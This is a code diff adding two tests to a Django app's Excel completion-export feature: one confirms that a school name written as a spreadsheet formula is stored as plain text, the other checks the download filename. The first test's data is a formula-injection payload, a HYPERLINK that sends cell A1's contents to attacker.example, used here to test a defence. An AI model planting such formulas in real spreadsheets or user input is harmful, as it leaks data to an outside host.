@@ -381,6 +381,30 @@ def test_export_has_exact_headers_rows_and_legend(client, plan, staff, schools, 
     ]
 
 
+def test_export_writes_a_school_named_like_a_formula_as_text(client, plan, staff, schools):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem")'
+    schools["an_lap"].name = formula
+    schools["an_lap"].save(update_fields=["name"])
+    client.force_login(staff)
+
+    response = client.get(reverse("schedules:completion-export"), {"plan": plan.pk})
+
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cell = next(cell for (cell,) in sheet.iter_rows(min_col=2, max_col=2) if cell.value == formula)
+    assert (cell.data_type, cell.value) == ("s", formula)
+
+
+def test_export_is_named_after_the_plan_and_its_period(client, plan, staff):
+    client.force_login(staff)
+
+    response = client.get(reverse("schedules:completion-export"), {"plan": plan.pk})
+
+    assert plan.symbol == "01/KH-PGDĐT"
+    assert response["Content-Disposition"] == 'attachment; filename="completion-01-kh-pgddt-2023-2024.xlsx"'
+
+
 def test_export_denied_for_principal(client, plan, principal):
     client.force_login(principal)
 
